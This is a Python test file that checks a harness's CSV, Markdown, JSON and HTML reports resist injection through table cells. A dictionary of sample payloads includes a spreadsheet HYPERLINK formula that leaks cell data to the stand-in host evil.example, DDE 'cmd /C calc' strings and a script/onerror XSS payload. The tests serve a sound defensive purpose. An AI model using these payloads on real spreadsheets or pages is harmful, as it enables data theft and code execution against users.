"""Reports as an attack surface (issue 11): a table cell or an operator's message ends up in every report, so
results.csv neutralises formulas, report.md escapes HTML and control characters, long cells are cut in the human
reports but kept whole in report.json, and report.html stays escaped. Each check has its harmless control."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd

from harness.model.abi import Status
from harness.model.record import new_record
from harness.reports import write_all
from harness.reports.json_csv import csv_text, neutralise_formula, results_frame
from harness.reports.content import MAX_CELL_CHARS, human_text
from harness.reports.markdown import render_markdown
from harness.store.stored import load_meta

META = load_meta({"run_id": "r1", "commit": "abc", "backend": "cpu", "inputs": []})
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "nul": "bad\x00byte\x1b[31m",
    "long": "x" * 1_000_000,
}


def _records() -> list[dict]:
    out = []
    for i, (key, text) in enumerate(HOSTILE.items()):
        r = new_record(f"TC_L0_{key}", "csymm", "cases/csymm_test.csv", i + 2, int(Status.SUCCESS))
        r.update(verdict="FAIL", status=int(Status.SUCCESS), reason=text, duration_s=-0.5)
        out.append(r)
    return out


def test_csv_formula_cells_are_neutralised_and_negative_numbers_stay_numbers():
    rows = list(csv.DictReader(io.StringIO(csv_text(results_frame(_records())))))
    reasons = {r["case_name"]: r["reason"] for r in rows}
    for key in ("formula", "plus", "at", "tab", "cr", "minus"):
        assert reasons[f"TC_L0_{key}"] == "'" + HOSTILE[key]
    assert reasons["TC_L0_html"] == HOSTILE["html"]  # not a formula: untouched
    assert {r["duration_s"] for r in rows} == {"-0.5"}  # a number stays a number
    assert len(reasons["TC_L0_long"]) < 33_000 and reasons["TC_L0_long"].endswith("whole in report.json)")
    assert [neutralise_formula(t) for t in ("-1.5", "+3", "-inf", "-", "- 1", "=1")] == \
        ["-1.5", "+3", "-inf", "'-", "'- 1", "'=1"]
    frame = pd.read_csv(io.StringIO(csv_text(results_frame(_records()))))
    assert frame["duration_s"].dtype.kind == "f"


def test_markdown_escapes_html_and_control_characters_and_cuts_long_cells():
    md = render_markdown(META, _records())
    assert "<script>" not in md and "<img" not in md and "&lt;script>alert(1)&lt;/script>" in md
    assert "\x00" not in md and "\x1b" not in md and "bad\\x00byte\\x1b[31m" in md
    assert "x" * (MAX_CELL_CHARS + 1) not in md and "(1000000 characters; whole in report.json)" in md
    assert len(md) < 100_000


def test_json_keeps_every_cell_whole_and_html_stays_escaped(tmp_path: Path):
    paths = write_all(tmp_path, META, _records())
    paths = {Path(p).name: Path(p) for p in (paths.values() if isinstance(paths, dict) else paths)}
    cases = {c["case_name"]: c["reason"] for c in json.loads((tmp_path / "report.json").read_text())["cases"]}
    assert cases == {f"TC_L0_{k}": v for k, v in HOSTILE.items()}
    page = (tmp_path / "report.html").read_text()
    assert "<script>alert" not in page and "<img src=x" not in page and "&lt;script&gt;" in page
    assert "\x00" not in page and "x" * (MAX_CELL_CHARS + 1) not in page


def test_human_text_leaves_ordinary_cells_alone():
    assert human_text("status matches") == "status matches"
    assert human_text(3.5) == 3.5 and human_text(None) is None
    assert human_text("a\tb") == "a\tb"  # tabs and newlines are not hidden controls
